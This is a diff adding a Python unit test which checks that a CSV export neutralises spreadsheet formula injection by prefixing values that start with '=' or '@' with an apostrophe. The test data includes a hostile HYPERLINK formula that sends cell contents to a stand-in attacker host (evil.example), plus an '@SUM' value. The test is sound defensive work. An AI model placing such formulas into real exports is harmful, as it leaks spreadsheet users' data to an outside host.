@@ -119,3 +119,17 @@ def test_addresses_that_are_none(url):
 def test_an_address():
     """Is kept as it is."""
     assert web_address("https://example.org/?q=<b>") == "https://example.org/?q=<b>"
+
+
+def test_a_spreadsheet_runs_nothing():
+    """A text that begins as a formula does gets an apostrophe in CSV; numbers stay numbers."""
+    document = {
+        **scored_to_wire(scored("d")),
+        "text": '=HYPERLINK("http://evil.example/?"&A2)',
+        "author": "@SUM(1)",
+        "compound": -0.5,
+    }
+    [row] = csv.DictReader(io.StringIO(csv_of([document]).decode(), newline=""))
+    assert row["text"] == '\'=HYPERLINK("http://evil.example/?"&A2)'
+    assert row["author"] == "'@SUM(1)"
+    assert row["compound"] == "-0.5"
